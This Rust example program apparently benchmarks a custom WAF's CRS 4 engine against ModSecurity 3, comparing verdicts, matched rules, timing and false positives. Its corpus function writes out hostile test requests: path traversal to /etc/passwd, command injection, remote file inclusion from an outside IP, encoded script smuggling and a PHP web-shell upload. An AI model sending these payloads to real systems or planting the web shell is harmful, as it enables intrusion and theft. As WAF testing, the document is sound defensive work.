//! The CRS engine against ModSecurity 3 itself: the same CRS 4 rules, the same requests, verdicts and
//! matched rules compared one by one.
//!
//! ```text
//! bash scripts/crs-oracle.sh        # installs libmodsecurity-dev, builds the C driver, runs this
//! cargo run --release -p edge-auth --features crs --example crs_oracle -- \
//!     --driver <modsec_driver> --crs <crs dir> --conf-dir scripts/crs-oracle \
//!     --blns <blns.txt> --sqlmap <sqlmap>/data [--paranoia 1] [--min-agreement 0.995] [--show 40]
//! ```
//!
//! The corpus: sqlmap's payloads and BLNS's lines (attacks and ordinary text) and a hand-written set of
//! ordinary text (`corpus::BENIGN_TEXT`) as query parameters, form fields, JSON members, cookies,
//! multipart fields and XML text, sqlmap's user agents as headers, and a few hand-written requests for
//! the protocol rules. Agreement is the share of requests with the same outcome (blocked or not), the
//! same logged rules and the same anomaly score; every disagreement not explained by ModSecurity's own
//! defects (reproduced with `RuleSetBuilder::modsecurity_quirks`) is printed.
//!
//! Also printed: both engines' time per request (ModSecurity timed by its driver, ours in a pass of its
//! own), and the false positives on the ordinary requests with and without the free-text exclusion set
//! (`EDGE_ORACLE_SHOW_FALSE_POSITIVES=1` lists them), with the attacks still caught.
#![allow(clippy::print_stdout, clippy::print_stderr)]

use std::collections::BTreeSet;
use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode, Stdio};

use edge_auth::waf::crs::exclusions::free_text;
use edge_auth::waf::crs::{Evaluation, Outcome, RuleSet};

#[path = "corpus/mod.rs"]
mod corpus;
use corpus::{BENIGN_TEXT, blns, blns_ordinary, percent_encode, sqlmap_payloads};

/// One request of the corpus.
struct Case {
    what: String,
    /// Ordinary traffic: blocking it is a false positive.
    benign: bool,
    method: &'static str,
    uri: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Case {
    fn get(what: &str, uri: String) -> Self {
        Self {
            what: what.to_owned(),
            benign: false,
            method: "GET",
            uri,
            headers: base_headers(),
            body: Vec::new(),
        }
    }

    fn post(what: &str, content_type: &str, body: Vec<u8>) -> Self {
        let mut headers = base_headers();
        headers.push(("Content-Type".into(), content_type.into()));
        headers.push(("Content-Length".into(), body.len().to_string()));
        Self {
            what: what.to_owned(),
            benign: false,
            method: "POST",
            uri: "/submit".into(),
            headers,
            body,
        }
    }
}

fn base_headers() -> Vec<(String, String)> {
    vec![
        ("Host".into(), "example.com".into()),
        (
            "User-Agent".into(),
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0".into(),
        ),
        ("Accept".into(), "text/html,application/xhtml+xml".into()),
        ("Accept-Language".into(), "en-US,en;q=0.5".into()),
    ]
}

fn json_string(s: &str) -> String {
    serde_json::Value::String(s.to_owned()).to_string()
}

fn xml_text(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

fn corpus(blns_path: &Path, sqlmap: &Path) -> Result<Vec<Case>, String> {
    let mut cases = Vec::new();
    let payloads = sqlmap_payloads(sqlmap)?;
    for (i, p) in payloads.iter().enumerate() {
        cases.push(Case::get(
            "sqlmap query",
            format!("/item?id={}", percent_encode(p)),
        ));
        match i % 4 {
            0 => cases.push(Case::post(
                "sqlmap form",
                "application/x-www-form-urlencoded",
                format!("id={}", percent_encode(p)).into_bytes(),
            )),
            1 => cases.push(Case::post(
                "sqlmap json",
                "application/json",
                format!("{{\"id\":{}}}", json_string(p)).into_bytes(),
            )),
            2 => {
                let mut case = Case::get("sqlmap cookie", "/account".into());
                case.headers
                    .push(("Cookie".into(), format!("session={}", percent_encode(p))));
                cases.push(case);
            }
            _ => cases.push(Case::post(
                "sqlmap xml attribute",
                "text/xml",
                format!(
                    "<query id=\"{}\">list</query>",
                    xml_text(p).replace('"', "&quot;")
                )
                .into_bytes(),
            )),
        }
    }
    let lines = blns(blns_path)?
        .into_iter()
        .map(|(section, line)| {
            let benign = blns_ordinary(&section);
            (format!("blns {section}"), line, benign)
        })
        .chain(
            BENIGN_TEXT
                .iter()
                .map(|line| ("benign text".to_owned(), (*line).to_owned(), true)),
        );
    for (what, line, benign) in lines {
        let first = cases.len();
        cases.push(Case::get(
            &what,
            format!("/search?q={}", percent_encode(&line)),
        ));
        cases.push(Case::post(
            &what,
            "application/x-www-form-urlencoded",
            format!("comment={}", percent_encode(&line)).into_bytes(),
        ));
        cases.push(Case::post(
            &what,
            "application/json",
            format!("{{\"comment\":{}}}", json_string(&line)).into_bytes(),
        ));
        cases.push(Case::post(
            &what,
            "text/xml",
            format!("<comment>{}</comment>", xml_text(&line)).into_bytes(),
        ));
        let boundary = "----edgeboundary7MA4YWxkTrZu0gW";
        cases.push(Case::post(
            &what,
            &format!("multipart/form-data; boundary={boundary}"),
            format!(
                "--{boundary}\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n{line}\r\n--{boundary}--\r\n"
            )
            .into_bytes(),
        ));
        for case in &mut cases[first..] {
            case.benign = benign;
        }
    }
    let agents = std::fs::read_to_string(sqlmap.join("txt").join("user-agents.txt"))
        .map_err(|e| format!("user-agents.txt: {e}"))?;
    for agent in agents
        .lines()
        .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
        .step_by(10)
    {
        let mut case = Case::get("sqlmap user agent", "/".into());
        case.benign = true;
        case.headers[1].1 = agent.trim().to_owned();
        cases.push(case);
    }
    for (what, uri) in [
        ("traversal path", "/static/..%2f..%2f..%2fetc%2fpasswd"),
        ("traversal arg", "/download?file=../../../../etc/passwd"),
        ("restricted file", "/.env"),
        ("restricted extension", "/backup.sql"),
        (
            "php wrapper",
            "/page?f=php://filter/convert.base64-encode/resource=index.php",
        ),
        ("rfi", "/page?url=http://203.0.113.7/shell.txt?"),
        ("command", "/ping?host=127.0.0.1;cat%20/etc/passwd"),
        ("java", "/x?class=java.lang.Runtime"),
        ("plain", "/"),
        ("plain query", "/products?category=shoes&size=42&sort=price"),
    ] {
        cases.push(Case::get(what, uri.into()));
    }
    // Multipart part headers (CRS 922xxx): charsets, transfer encodings, odd header names, uploads.
    let boundary = "----edgeboundaryQ2xhc3NpYw";
    for (what, part, benign) in [
        (
            "upload",
            "Content-Disposition: form-data; name=\"file\"; filename=\"cat.png\"\r\nContent-Type: image/png\r\n\r\n\u{89}PNG....",
            true,
        ),
        (
            "upload text",
            "Content-Disposition: form-data; name=\"notes\"; filename=\"a.txt\"\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nhello",
            true,
        ),
        (
            "part charset utf-7",
            "Content-Disposition: form-data; name=\"notes\"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADw-script+AD4-",
            false,
        ),
        (
            "part transfer encoding",
            "Content-Disposition: form-data; name=\"notes\"\r\nContent-Transfer-Encoding: base64\r\n\r\nPHNjcmlwdD4=",
            false,
        ),
        (
            "_charset_ field",
            "Content-Disposition: form-data; name=\"_charset_\"\r\n\r\nutf-7",
            false,
        ),
        (
            "upload php",
            "Content-Disposition: form-data; name=\"file\"; filename=\"shell.php\"\r\nContent-Type: application/octet-stream\r\n\r\n<?php system($_GET['c']); ?>",
            false,
        ),
    ] {
        let mut case = Case::post(
            &format!("multipart {what}"),
            &format!("multipart/form-data; boundary={boundary}"),
            format!("--{boundary}\r\n{part}\r\n--{boundary}--\r\n").into_bytes(),
        );
        case.benign = benign;
        cases.push(case);
    }
    let mut missing_ua = Case::get("no user agent", "/".into());
    missing_ua.headers.remove(1);
    cases.push(missing_ua);
    let mut bad_method = Case::get("method", "/".into());
    bad_method.method = "TRACE";
    cases.push(bad_method);
    Ok(cases)
}

/// One verdict of the driver.
struct Theirs {
    /// The status of a blocked request, 0 for one that passed.
    status: u16,
    ids: Vec<u32>,
    message: String,
    /// ModSecurity's time for the transaction.
    nanos: u64,
}

/// The driver's verdicts.
fn modsecurity(driver: &str, confs: &[PathBuf], cases: &[Case]) -> Result<Vec<Theirs>, String> {
    let mut child = Command::new(driver)
        .args(confs)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .map_err(|e| format!("{driver}: {e}"))?;
    let mut input = Vec::new();
    for case in cases {
        input.extend_from_slice(
            format!(
                "{} {} HTTP/1.1\n{}\n",
                case.method,
                case.uri,
                case.headers.len()
            )
            .as_bytes(),
        );
        for (name, value) in &case.headers {
            input.extend_from_slice(format!("{name}: {value}\n").as_bytes());
        }
        input.extend_from_slice(format!("{}\n", case.body.len()).as_bytes());
        input.extend_from_slice(&case.body);
        input.push(b'\n');
    }
    let mut stdin = child.stdin.take().ok_or("no stdin")?;
    let writer = std::thread::spawn(move || stdin.write_all(&input));
    let stdout = child.stdout.take().ok_or("no stdout")?;
    let mut verdicts = Vec::new();
    for line in BufReader::new(stdout).lines() {
        let line = line.map_err(|e| e.to_string())?;
        let mut fields = line.splitn(5, '\t');
        let (_, status, ids, nanos, message) = (
            fields.next(),
            fields.next(),
            fields.next(),
            fields.next(),
            fields.next(),
        );
        verdicts.push(Theirs {
            status: status.and_then(|s| s.parse().ok()).unwrap_or(0),
            ids: ids
                .unwrap_or_default()
                .split(',')
                .filter_map(|id| id.parse().ok())
                .collect(),
            nanos: nanos.and_then(|n| n.parse().ok()).unwrap_or(0),
            message: message.unwrap_or_default().to_owned(),
        });
    }
    writer
        .join()
        .map_err(|_| "writer panicked")?
        .map_err(|e| e.to_string())?;
    let status = child.wait().map_err(|e| e.to_string())?;
    if !status.success() || verdicts.len() != cases.len() {
        return Err(format!(
            "the driver exited with {status} after {} of {} requests",
            verdicts.len(),
            cases.len()
        ));
    }
    Ok(verdicts)
}

fn ours(crs: &RuleSet, case: &Case) -> Result<Evaluation, String> {
    let mut request = http::Request::builder().method(case.method).uri(&case.uri);
    for (name, value) in &case.headers {
        request = request.header(name.as_str(), value.as_str());
    }
    let (parts, ()) = request
        .body(())
        .map_err(|e| format!("{}: {e}", case.uri))?
        .into_parts();
    Ok(crs.evaluate(&parts, &case.body, Some([127, 0, 0, 1].into())))
}

fn main() -> ExitCode {
    match run() {
        Ok(true) => ExitCode::SUCCESS,
        Ok(false) => ExitCode::FAILURE,
        Err(e) => {
            eprintln!("crs_oracle: {e}");
            ExitCode::from(2)
        }
    }
}

fn run() -> Result<bool, String> {
    let mut args = std::env::args().skip(1);
    let (mut driver, mut crs_dir, mut conf_dir, mut blns_path, mut sqlmap) =
        (None, None, None, None, None);
    let (mut paranoia, mut min_agreement, mut show) = (1u8, 0.0f64, 40usize);
    while let Some(flag) = args.next() {
        let value = args.next().ok_or(format!("{flag} needs a value"))?;
        match flag.as_str() {
            "--driver" => driver = Some(value),
            "--crs" => crs_dir = Some(PathBuf::from(value)),
            "--conf-dir" => conf_dir = Some(PathBuf::from(value)),
            "--blns" => blns_path = Some(PathBuf::from(value)),
            "--sqlmap" => sqlmap = Some(PathBuf::from(value)),
            "--paranoia" => paranoia = value.parse().map_err(|_| "--paranoia takes 1 to 4")?,
            "--min-agreement" => {
                min_agreement = value.parse().map_err(|_| "--min-agreement takes a ratio")?
            }
            "--show" => show = value.parse().map_err(|_| "--show takes a count")?,
            other => return Err(format!("unknown flag {other}")),
        }
    }
    let (driver, crs_dir, conf_dir) = (
        driver.ok_or("--driver is required")?,
        crs_dir.ok_or("--crs is required")?,
        conf_dir.ok_or("--conf-dir is required")?,
    );
    let cases = corpus(
        &blns_path.ok_or("--blns is required")?,
        &sqlmap.ok_or("--sqlmap is required")?,
    )?;

    // The same files, in the same order, on both sides.
    let paranoia_conf = std::env::temp_dir().join(format!("crs-oracle-paranoia-{paranoia}.conf"));
    std::fs::write(
        &paranoia_conf,
        format!("SecAction \"id:900000,phase:1,pass,t:none,nolog,setvar:tx.blocking_paranoia_level={paranoia}\"\n"),
    )
    .map_err(|e| e.to_string())?;
    let setup = if crs_dir.join("crs-setup.conf").exists() {
        crs_dir.join("crs-setup.conf")
    } else {
        crs_dir.join("crs-setup.conf.example")
    };
    let mut confs = vec![conf_dir.join("modsecurity.conf"), setup, paranoia_conf];
    let mut rules: Vec<PathBuf> = std::fs::read_dir(crs_dir.join("rules"))
        .map_err(|e| e.to_string())?
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|e| e == "conf"))
        .collect();
    rules.sort();
    confs.extend(rules);
    confs.push(conf_dir.join("score-probe.conf"));
    let build = |compat: bool, exclusions: bool| -> Result<RuleSet, String> {
        let mut builder = RuleSet::builder().modsecurity_quirks(compat);
        for conf in &confs {
            builder = builder.file(conf).map_err(|e| e.to_string())?;
        }
        if exclusions {
            // The corpus puts text in `comment` (bodies) and `q` (queries).
            builder = builder.rules("free text", free_text(["comment", "q"]));
        }
        builder.build().map_err(|e| e.to_string())
    };
    let (crs, crs_compat, crs_excluded) = (
        build(false, false)?,
        build(true, false)?,
        build(false, true)?,
    );

    let theirs = modsecurity(&driver, &confs, &cases)?;
    let (mut same_verdict, mut same_all, mut explained, mut blocked_theirs, mut shown) =
        (0usize, 0usize, 0usize, 0usize, 0usize);
    // Ours timed in a pass of its own over the corpus in order, as the driver timed ModSecurity's: the
    // comparisons below interleave three rule sets, which would charge ours for their cache misses.
    let mut our_nanos = Vec::with_capacity(cases.len());
    for case in &cases {
        let started = std::time::Instant::now();
        let _ = ours(&crs, case)?;
        our_nanos.push(u64::try_from(started.elapsed().as_nanos()).unwrap_or(u64::MAX));
    }
    let mut their_nanos = Vec::with_capacity(cases.len());
    let show_false_positives = std::env::var_os("EDGE_ORACLE_SHOW_FALSE_POSITIVES").is_some();
    // Benign requests: how many, blocked by ModSecurity, by ours; which rules ours blocked them with.
    let mut benign = (0usize, 0usize, 0usize, 0usize);
    // Attacks ModSecurity blocked: how many, blocked by ours, by ours with the free-text exclusions.
    let mut attacks = (0usize, 0usize, 0usize);
    let mut false_positive_rules: std::collections::BTreeMap<u32, usize> = Default::default();
    for (case, theirs) in cases.iter().zip(&theirs) {
        let Theirs {
            status,
            ids: their_ids,
            message: their_message,
            nanos,
        } = theirs;
        their_nanos.push(*nanos);
        blocked_theirs += usize::from(*status != 0);
        let first = ours(&crs, case)?;
        let excluded = ours(&crs_excluded, case)?.is_blocked();
        if !case.benign && *status != 0 {
            attacks.0 += 1;
            attacks.1 += usize::from(first.is_blocked());
            attacks.2 += usize::from(excluded);
        }
        if case.benign {
            benign.0 += 1;
            benign.1 += usize::from(*status != 0);
            benign.3 += usize::from(excluded);
            if first.is_blocked() {
                benign.2 += 1;
                if show_false_positives {
                    let ids: Vec<u32> = first.matches.iter().map(|m| m.id).collect();
                    println!(
                        "FP [{}] {} {} {:?} {ids:?}",
                        case.what,
                        case.method,
                        case.uri,
                        String::from_utf8_lossy(&case.body[..case.body.len().min(100)])
                    );
                }
                for m in &first.matches {
                    *false_positive_rules.entry(m.id).or_default() += 1;
                }
            }
        }
        let mut first = Some(first);
        let mut agrees = |crs: &RuleSet| -> Result<(bool, bool, String), String> {
            let ours = match first.take() {
                Some(evaluation) => evaluation,
                None => ours(crs, case)?,
            };
            let our_status = match ours.outcome {
                Outcome::Blocked { status, .. } => status,
                _ => 0,
            };
            let our_ids: Vec<u32> = ours.matches.iter().map(|m| m.id).collect();
            let our_message = ours
                .matches
                .last()
                .map(|m| m.message.as_str())
                .unwrap_or_default();
            let verdict = (our_status != 0) == (*status != 0);
            let set = |ids: &[u32]| ids.iter().copied().collect::<BTreeSet<_>>();
            let all = verdict && set(&our_ids) == set(their_ids) && our_message == their_message;
            Ok((
                verdict,
                all,
                format!("{our_status} {our_ids:?} {our_message:?}"),
            ))
        };
        let (verdict, all, summary) = agrees(&crs)?;
        same_verdict += usize::from(verdict);
        same_all += usize::from(all);
        if all {
            continue;
        }
        // The differences ModSecurity's defects explain: gone when ours reproduces them.
        if agrees(&crs_compat)?.1 {
            explained += 1;
            continue;
        }
        if shown < show {
            shown += 1;
            println!(
                "DIFF [{}] {} {} body={:?}\n  modsecurity: {status} {their_ids:?} {their_message:?}\n  edge:        {summary}",
                case.what,
                case.method,
                case.uri,
                String::from_utf8_lossy(&case.body[..case.body.len().min(120)]),
            );
        }
    }
    let n = cases.len();
    let ratio = |k: usize| k as f64 / n as f64;
    println!(
        "CRS oracle (paranoia {paranoia}): {n} requests, ModSecurity blocked {blocked_theirs}; same verdict {same_verdict} ({:.2}%); same verdict, rules and score {same_all} ({:.2}%); {explained} more differ only by ModSecurity 3's defects (cssDecode ending values at a NUL byte, unfinished multiMatch chains logged, CRs kept in multipart part headers) ({:.2}% with them)",
        100.0 * ratio(same_verdict),
        100.0 * ratio(same_all),
        100.0 * ratio(same_all + explained),
    );
    let stats = |nanos: &mut Vec<u64>| {
        nanos.sort_unstable();
        let mean = nanos.iter().sum::<u64>() as f64 / nanos.len().max(1) as f64 / 1000.0;
        let at = |q: f64| {
            nanos
                .get(((nanos.len() as f64 - 1.0) * q) as usize)
                .copied()
                .unwrap_or(0) as f64
                / 1000.0
        };
        (mean, at(0.5), at(0.99))
    };
    let (ours_mean, ours_p50, ours_p99) = stats(&mut our_nanos);
    let (theirs_mean, theirs_p50, theirs_p99) = stats(&mut their_nanos);
    println!(
        "time per request, same requests, one run: ModSecurity 3 mean {theirs_mean:.1} µs, p50 {theirs_p50:.1}, p99 {theirs_p99:.1}; edge mean {ours_mean:.1} µs, p50 {ours_p50:.1}, p99 {ours_p99:.1}; edge takes {:.2}× ModSecurity's time",
        ours_mean / theirs_mean,
    );
    let percent = |k: usize, n: usize| 100.0 * k as f64 / n.max(1) as f64;
    println!(
        "false positives on {} benign requests: ModSecurity {} ({:.2}%), edge {} ({:.2}%), edge with the free-text exclusions on `comment` and `q` {} ({:.2}%); rules in edge's: {false_positive_rules:?}",
        benign.0,
        benign.1,
        percent(benign.1, benign.0),
        benign.2,
        percent(benign.2, benign.0),
        benign.3,
        percent(benign.3, benign.0),
    );
    println!(
        "attacks ModSecurity blocked: {}; edge blocks {} ({:.2}%), with the free-text exclusions {} ({:.2}%)",
        attacks.0,
        attacks.1,
        percent(attacks.1, attacks.0),
        attacks.2,
        percent(attacks.2, attacks.0),
    );
    Ok(ratio(same_all + explained) >= min_agreement)
}
